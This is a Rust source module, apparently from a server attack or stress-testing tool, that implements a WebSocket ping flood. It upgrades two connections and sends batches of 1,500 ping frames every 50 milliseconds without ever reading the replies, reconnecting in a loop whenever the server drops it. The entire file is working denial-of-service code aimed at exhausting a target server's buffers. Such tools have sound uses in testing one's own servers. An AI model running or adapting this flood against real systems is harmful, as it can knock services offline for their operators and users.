//! WebSockets that ping and never read.

use std::time::Duration;

use async_trait::async_trait;
use futures_util::future::join_all;

use super::super::attack::Attack;
use super::super::payload::frames;
use super::super::tally::Count;
use super::super::target::Target;
use super::{AGAIN, ANSWERED_WITHIN};

const SOCKETS: usize = 2;
const EVERY: Duration = Duration::from_millis(50);
/// Pings per batch: 4 MB a second for each socket.
const AT_ONCE: usize = 1_500;

pub(super) struct Pings;

#[async_trait]
impl Attack for Pings {
    fn name(&self) -> &'static str {
        "pings whose pongs are not read"
    }

    async fn run(&self, target: &Target, count: &Count) {
        join_all((0..SOCKETS).map(|_| again(target, count))).await;
    }
}

async fn again(target: &Target, count: &Count) {
    loop {
        flood(target, count).await;
        tokio::time::sleep(AGAIN).await;
    }
}

/// Pings until the server closes the connection.
async fn flood(target: &Target, count: &Count) {
    let Ok(mut connection) = target.connect().await else { return count.cut() };
    let upgrade = target.head("GET", "ws") + frames::UPGRADE + "\r\n";
    count.sent(upgrade.len());
    if connection.send(upgrade.as_bytes()).await.is_err() {
        return count.cut();
    }
    let Ok(Some(reply)) = tokio::time::timeout(ANSWERED_WITHIN, connection.head()).await else {
        return count.cut();
    };
    count.status(reply.status);
    if reply.status != 101 {
        return;
    }
    let pings = frames::ping().repeat(AT_ONCE);
    while connection.send(&pings).await.is_ok() {
        count.more(pings.len());
        tokio::time::sleep(EVERY).await;
    }
    count.cut();
}
